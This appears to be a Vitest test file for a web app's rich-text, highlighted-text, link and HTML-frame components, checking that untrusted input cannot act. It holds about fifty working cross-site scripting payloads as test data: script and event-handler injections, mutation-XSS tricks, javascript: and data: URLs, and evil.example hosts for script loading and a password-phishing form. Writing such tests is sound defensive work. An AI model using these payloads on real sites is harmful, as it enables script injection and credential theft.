// Text from people and from data, on its way into the page: rich text, marked text, links. None of it may act.
import { expect, test } from 'vitest'
import { renderWhole } from '#tests/setup/render-whole.tsx'
import { HtmlFrame } from '#ui/html-frame.tsx'
import { MarkedText } from '#ui/marked-text.tsx'
import { RichText } from '#ui/rich-text.tsx'
import { SafeLink } from '#ui/safe-link.tsx'

const ALLOWED = new Set('B STRONG I EM U S P BR UL OL LI CODE PRE BLOCKQUOTE MARK A H3 H4'.split(' '))

const payloads = [
  '<script>pwn()</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>pwn()</scr</script>ipt>',
  '<img src=x onerror=pwn()>',
  '<img src="x" onerror="pwn()" />',
  '<IMG """><SCRIPT>pwn()</SCRIPT>">',
  '<svg onload=pwn()>',
  '<svg><script>pwn()</script></svg>',
  '<svg><animate onbegin=pwn() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:pwn()"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=pwn()></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=pwn()>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwn()&gt;">',
  '<math><mi//xlink:href="data:x,<script>pwn()</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn()>',
  '<iframe src="javascript:pwn()"></iframe>',
  '<iframe srcdoc="<script>parent.pwn()</script>"></iframe>',
  '<object data="javascript:pwn()"></object>',
  '<embed src="javascript:pwn()">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:pwn()">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>*{display:none}</style>',
  '<p style="position:fixed;inset:0">over everything</p>',
  '<p id="root" class="dialog" name="body">clobbers</p>',
  '<p onclick="pwn()" onpointerenter=pwn() onfocus=pwn() tabindex=0 autofocus>presses</p>',
  '<p data-react-aria-top-layer="true" aria-hidden="true" contenteditable>attributes</p>',
  '<a href="javascript:pwn()">link</a>',
  '<a href="JaVaScRiPt:pwn()">link</a>',
  '<a href=" &#14; javascript:pwn()">link</a>',
  '<a href="java\nscript:pwn()">link</a>',
  '<a href="java&#x09;script:pwn()">link</a>',
  '<a href="data:text/html,<script>pwn()</script>">link</a>',
  '<a href="vbscript:pwn()">link</a>',
  '<a href="blob:https://evil.example/1">link</a>',
  '<a href="file:///etc/passwd">link</a>',
  '<a href="//evil.example">link</a>',
  '<a href="/sign-out">link</a>',
  '<a href="https://evil.example" target="_top" rel="opener" download ping="https://evil.example">link</a>',
  '<a href="https://evil.example" onclick="pwn()">link</a>',
  '<form action="https://evil.example"><input name=password autofocus onfocus=pwn()><button>Sign in</button></form>',
  '<details open ontoggle=pwn()>x</details>',
  '<video><source onerror=pwn()></video>',
  '<audio src=x onerror=pwn()>',
  '<body onload=pwn()>',
  '<table background="javascript:pwn()"><tr><td>x</td></tr></table>',
  '<template><img src=x onerror=pwn()></template>',
  '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
  '<select><option><img src=x onerror=pwn()></select>',
  '<textarea></textarea><img src=x onerror=pwn()>',
  '<!--><img src=x onerror=pwn()>-->',
  '<![CDATA[<img src=x onerror=pwn()>]]>',
  '<custom-element is="x" onclick=pwn()>x</custom-element>',
  '<p>{{constructor.constructor("pwn()")()}}</p>',
]

declare global {
  var pwn: () => void
}

test.each(payloads)('rich text shows no more than its few tags and runs nothing: %s', async (html) => {
  let ran = 0
  globalThis.pwn = () => {
    ran++
  }
  const { container } = await renderWhole(<RichText html={`<b>before</b>${html}<i>after</i>`} />)
  const root = container.firstElementChild!
  for (const element of root.querySelectorAll('*')) {
    expect(ALLOWED).toContain(element.nodeName)
    const names = element.getAttributeNames()
    expect(names.filter((name) => !(element.nodeName === 'A' && ['href', 'rel', 'target'].includes(name)))).toEqual([])
    if (!(element instanceof HTMLAnchorElement) || !element.hasAttribute('href')) continue
    expect(element.href).toMatch(/^(https?|mailto|tel):/)
    expect(element.rel).toBe('noopener noreferrer')
    expect(element.target).toBe('_blank')
  }
  await new Promise((resolve) => requestAnimationFrame(resolve))
  expect(ran).toBe(0)
  expect(root.textContent).toContain('before')
})

test('rich text keeps paragraphs, emphasis, lists, quotes, code, headings and web links', async () => {
  const html =
    '<h3>The work</h3><p>You <b>turn</b> <em>flows</em> into <mark>decisions</mark>.<br></p><ul><li>one</li></ul><ol><li>two</li></ol><blockquote>said</blockquote><pre><code>select 1</code></pre>'
  const { container } = await renderWhole(<RichText html={html} />)
  expect(container.firstElementChild!.innerHTML).toBe(html)
})

const marked: [escaped: string, text: string, marks: string[]][] = [
  ['Finish the <mark>SQL</mark> evaluation', 'Finish the SQL evaluation', ['SQL']],
  ['<mark>a</mark>b<mark>c</mark>', 'abc', ['a', 'c']],
  ['Bread &amp; butter &lt;now&gt;', 'Bread & butter <now>', []],
  ['&lt;script&gt;pwn()&lt;/script&gt;', '<script>pwn()</script>', []],
  ['<mark>&lt;b&gt;</mark>', '<b>', ['<b>']],
  ['&amp;lt;b&amp;gt;', '&lt;b&gt;', []],
  ['&quot;quoted&quot; and &#39;so&#39;', '"quoted" and \'so\'', []],
  ['<script>pwn()</script>', '<script>pwn()</script>', []],
  ['<img src=x onerror=pwn()>', '<img src=x onerror=pwn()>', []],
  ['<mark onclick=pwn()>x</mark>', '<mark onclick=pwn()>x', []],
  ['<MARK>x</MARK>', '<MARK>x</MARK>', []],
  ['never <mark>closed', 'never closed', ['closed']],
  ['&unknown; &constructor;', '&unknown; &constructor;', []],
  ['', '', []],
]

test.each(marked)(
  'marked text shows the matches as marks and everything else as text: %s',
  async (escaped, text, marks) => {
    const { container } = await renderWhole(
      <p>
        <MarkedText text={escaped} />
      </p>,
    )
    expect(container.textContent).toBe(text)
    expect([...container.querySelectorAll('mark')].map((mark) => mark.textContent)).toEqual(marks)
    expect(
      [...container.querySelectorAll('p *')].every(
        (element) => element.nodeName === 'MARK' && element.attributes.length === 0,
      ),
    ).toBe(true)
  },
)

const links: [address: string | null, shown: string | null][] = [
  ['https://example.com/a?b=1#c', 'https://example.com/a?b=1#c'],
  ['http://example.com', 'http://example.com/'],
  ['HTTPS://EXAMPLE.COM', 'https://example.com/'],
  [' https://example.com ', 'https://example.com/'],
  ['mailto:alex.morgan@cairn.example', 'mailto:alex.morgan@cairn.example'],
  ['tel:+33123456789', 'tel:+33123456789'],
  ['javascript:pwn()', null],
  ['JAVASCRIPT:pwn()', null],
  ['\u0001javascript:pwn()', null],
  ['java\tscript:pwn()', null],
  [' javascript:pwn()', null],
  ['data:text/html,<script>pwn()</script>', null],
  ['blob:https://example.com/1', null],
  ['vbscript:pwn()', null],
  ['file:///etc/passwd', null],
  ['ftp://example.com', null],
  ['intent://scan/#Intent;end', null],
  ['//example.com', null],
  ['/sign-out', null],
  ['?redirectURL=https://evil.example', null],
  ['example.com', null],
  ['https://', null],
  ['', null],
  [null, null],
]

test.each(links)('only web, mail and telephone addresses become links: %s', async (address, shown) => {
  const { container } = await renderWhole(<SafeLink href={address}>words</SafeLink>)
  const link = container.querySelector('a')
  expect(link ? link.href : null).toBe(shown)
  if (link) expect(link.rel).toBe('noopener noreferrer')
  expect(container.textContent).toBe('words')
})

test('a frame of HTML is as tall as what it holds, however short', async () => {
  const frame = (html: string) => <HtmlFrame html={html} title="Email" imageLabel="Image" onRemote={() => undefined} />
  const { rerender } = await renderWhole(frame('<p>Tea at four?</p>'))
  const height = () => document.querySelector('iframe')?.getBoundingClientRect().height
  await expect.poll(height).toBeLessThan(90)
  expect(height()).toBeGreaterThan(40)
  await rerender(frame('<p>Tea at four?</p>'.repeat(20)))
  await expect.poll(height).toBeGreaterThan(600)
  await rerender(frame('<p>Tea at four?</p>'))
  await expect.poll(height).toBeLessThan(90)
})
